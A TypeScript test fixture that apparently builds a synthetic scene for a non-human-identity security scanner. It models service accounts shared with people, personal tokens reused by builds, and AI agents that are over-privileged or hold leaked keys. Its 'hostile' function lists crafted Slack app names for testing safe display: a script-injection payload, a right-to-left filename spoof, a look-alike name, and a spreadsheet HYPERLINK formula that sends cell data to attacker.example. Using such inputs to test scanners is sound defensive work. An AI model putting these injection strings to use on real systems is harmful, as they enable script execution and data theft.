/** People behind machines, agents, and names that do harm: NHI10. */
import { account, NEVER, since } from './account.ts'
import { agentWords } from './agents.ts'
import type { Scene } from './scene.ts'

function people(scene: Scene): void {
  const terminal = {
    interactiveLogins: 2,
    lastInteractive: {
      at: scene.at(Math.min(Math.floor(scene.today), -2), 'terminal'),
      from: '10.20.9.31 on pts/0',
      how: 'login with a terminal',
    },
  }
  const backup = account(scene, {
    place: ['linux', 'linux_user', 'db-eu-1/svc-backup'],
    name: 'svc-backup@db-eu-1',
    owner: 'Noor Easton',
    born: -1200,
    used: { every: 1 },
    by: 'restic on db-eu-1',
    environment: 'production',
    facts: {
      attributes: {
        account: 'svc-backup',
        uid: 998,
        accountKindReasons: ['its name says so: svc-backup'],
        loginShell: true,
        shell: '/bin/bash',
        password: 'locked',
        ...(scene.today >= -60 ? terminal : { interactiveLogins: 0 }),
      },
    },
    holds: [['ledger', 'production', 'read']],
    calls: [['ledger', 'production']],
    faults: since(scene, -60, 'human-use'),
  })
  scene.say(
    'linux',
    scene.workload(['linux', 'linux_unit', 'unit/db-eu-1/backup.service'], 'backup.service on db-eu-1', {
      environment: 'production',
    }),
    'runs-as',
    backup,
  )
  const reporting = account(scene, {
    place: ['snowflake', 'snowflake_user', 'user/REPORTING'],
    name: 'REPORTING',
    owner: 'Ines Calloway',
    born: -600,
    used: { every: 0.3 },
    by: 'Snowsight, Rafael Okoro’s laptop',
    environment: 'production',
    holds: [['reports', 'production', 'write']],
    calls: [['reports', 'production']],
    faults: ['human-use'],
    hard: 'only the program that logs in tells that a person does',
  })
  scene.say(
    'snowflake',
    scene.workload(['snowflake', 'snowflake_client', 'client/snowsight-reporting'], 'Snowsight', {
      attributes: { interactive: true },
    }),
    'uses',
    reporting,
  )
  const odile = account(scene, {
    place: ['rpa', 'rpa_robot', 'user/odile.marsh'],
    name: 'Odile Marsh (automation)',
    owner: 'Odile Marsh',
    machine: false,
    born: -600,
    used: { every: 1 },
    hard: 'a robot signs in as her',
  })
  const robot = account(scene, {
    place: ['rpa', 'rpa_robot', 'robot/invoices'],
    name: 'robot-invoices',
    owner: 'Wanda Pryce',
    born: -190,
    used: { every: 0.1 },
    by: 'Invoice intake',
    holds: [['billing', 'production', 'write']],
    calls: [['billing', 'production']],
    faults: ['human-use'],
  })
  const login = scene.credential(
    ['rpa', 'rpa_credential_asset', 'asset/odile'],
    'ERP login of Odile Marsh',
    { method: 'password', value: 'odile', born: -85, ends: { value: 5 } },
    [robot, odile],
  )
  scene.say(
    'rpa',
    scene.workload(['rpa', 'rpa_process', 'process/invoice-intake'], 'Invoice intake', {}),
    'uses',
    login,
  )
  const lena = account(scene, {
    place: ['github', 'github_machine_user', 'user/lenabrandt'],
    name: 'lenabrandt',
    owner: 'Lena Brandt',
    machine: false,
    born: -800,
    used: { every: 0.3 },
    faults: ['human-use'],
    hard: 'her own token also runs the nightly build',
  })
  const token = scene.credential(
    ['github', 'github_token', 'token/lenabrandt-nightly'],
    'personal token "nightly" of lenabrandt',
    { method: 'token', value: 'lena', born: -75, ends: { value: 15 }, used: { every: 1 } },
    [lena],
  )
  const nightly = scene.copy(
    ['github', 'github_actions_secret', 'secret/search/LENA_PAT'],
    'LENA_PAT of larkfield/search',
    token,
    { value: 'lena', born: -75 },
  )
  scene.say(
    'github',
    scene.workload(['github', 'github_actions_job', 'job/search/nightly.yml'], 'search / nightly.yml', {}),
    'uses',
    nightly,
  )
  const mara = account(scene, {
    place: ['github', 'github_machine_user', 'user/maraquill'],
    name: 'maraquill',
    owner: 'Mara Quill',
    machine: false,
    born: -1200,
    used: { every: 0.3 },
    near: [['human-use', 'her own token on her own laptop']],
  })
  scene.credential(
    ['github', 'github_token', 'token/maraquill-laptop'],
    'personal token "laptop" of maraquill',
    { method: 'token', value: 'mara', born: -30, ends: { value: 60 }, used: { every: 0.5 } },
    [mara],
  )
}

function agents(scene: Scene): void {
  const greta = account(scene, {
    place: ['agents', 'ai_agent', 'delegation/greta.voss'],
    name: 'Greta Voss (delegated)',
    owner: 'Greta Voss',
    machine: false,
    born: -100,
    hard: 'an agent acts with her token',
  })
  const support = account(scene, {
    place: ['agents', 'ai_agent', 'agent/support'],
    name: 'support-agent',
    owner: 'Greta Voss',
    born: -100,
    used: { every: 0.02 },
    by: 'the agent gateway',
    environment: 'production',
    facts: {
      attributes: {
        ...agentWords(scene, 'support-agent'),
        autonomy: 'acts without asking',
        autonomyLevel: 'acts',
        sponsor: 'greta.voss@larkfield.example',
      },
    },
    holds: [
      ['returns', 'production', 'write'],
      ['loyalty', 'production', 'write'],
    ],
    calls: [
      ['returns', 'production'],
      ['loyalty', 'production'],
    ],
    faults: ['human-use'],
  })
  scene.credential(
    ['agents', 'ai_tool_token', 'token/greta'],
    'delegated CRM token of Greta Voss',
    { method: 'token', value: 'greta', born: -70, ends: { value: 20 }, used: { every: 0.02 } },
    [support, greta],
  )
  const coder = account(scene, {
    place: ['agents', 'ai_agent', 'agent/code'],
    name: 'code-agent',
    owner: 'Mara Quill',
    recorded: false,
    evidence: ['names'],
    born: -85,
    used: { every: 0.1 },
    by: 'pull requests',
    facts: { attributes: { ...agentWords(scene, 'code-agent'), description: 'Mara’s coding agent' } },
    environment: 'development',
    holds: [
      ['checkout', 'development', 'admin'],
      ['checkout', 'production', 'admin'],
    ],
    calls: [['checkout', 'development']],
    faults: ['over-privileged', 'environment-mixing'],
  })
  scene.credential(
    ['agents', 'ai_tool_token', 'token/code-agent'],
    'GitHub token of code-agent',
    { method: 'token', value: 'code-agent', born: -85, ends: NEVER, used: { every: 0.1 } },
    [coder],
  )
  const planner = account(scene, {
    place: ['agents', 'ai_agent', 'agent/planner-poc'],
    name: 'planner-poc',
    owner: 'Bruno Aldane',
    recorded: false,
    maker: 'Bruno Aldane',
    evidence: ['created'],
    born: -118,
    used: { every: 3, until: -101 },
    by: 'a notebook',
    facts: { attributes: { ...agentWords(scene, 'planner-poc') } },
    environment: 'development',
    holds: [['routing', 'development', 'write']],
    faults: [...since(scene, -20, 'stale'), 'leaked'],
    hard: 'its key stands in a notebook on a share that we do not read',
    unseen: ['leaked'],
  })
  scene.credential(
    ['agents', 'ai_model_key', 'key/planner-poc'],
    'model key of planner-poc',
    { method: 'token', value: 'planner-poc', born: -118, ends: NEVER, used: { every: 3, until: -101 } },
    [planner],
  )
  account(scene, {
    place: ['agents', 'ai_agent', 'agent/image-tagger'],
    name: 'image-tagger',
    owner: 'Rafael Okoro',
    recorded: false,
    maker: 'Rafael Okoro',
    evidence: ['created'],
    born: -3,
    used: { every: 0.1 },
    by: 'the media pipeline',
    facts: { attributes: { ...agentWords(scene, 'image-tagger') } },
    environment: 'staging',
    holds: [['checkout', 'staging', 'read']],
    calls: [['checkout', 'staging']],
    near: [['stale', 'it is three days old']],
  })
  account(scene, {
    place: ['agents', 'ai_agent', 'agent/docs'],
    name: 'docs-agent',
    owner: 'Thea Lindqvist',
    born: -60,
    used: { every: 0.2 },
    by: 'the intranet',
    facts: { attributes: { ...agentWords(scene, 'docs-agent') } },
    environment: 'production',
    holds: [['search', 'production', 'read']],
    calls: [['search', 'production']],
    near: [['over-privileged', 'it may read the handbook and nothing else']],
  })
}

/** Names are text, whatever they hold. */
function hostile(scene: Scene): void {
  const names: [string, string][] = [
    ['markup', '<img src=x onerror="alert(1)"><script>alert(2)</script> mailer'],
    ['right-to-left', 'invoice-\u202egpj.exe\u202c \u2067\u0634\u062d\u0646\u2069 importer'],
    ['newlines', 'first line\r\nsecond line\n\n\tthird\u0007 line'],
    ['long', `worker-${'x'.repeat(9_993)}`],
    ['formula', '=HYPERLINK("https://attacker.example/?"&A1,"open") exporter'],
    ['look-alike', 'сі-dерlоуеr'],
  ]
  for (const [word, name] of names) {
    account(scene, {
      place: ['slack', 'slack_app', `app/hostile-${word}`],
      name,
      owner: 'Samir Holt',
      born: -149,
      used: {
        unknown: 'the audit log of the workspace may not be read',
        permission: 'auditlogs:read (Enterprise Grid)',
      },
      holds: [['notify', 'production', 'read']],
      hard: `a hostile name: ${word}`,
    })
  }
}

export const peopleStories = [people, agents, hostile]
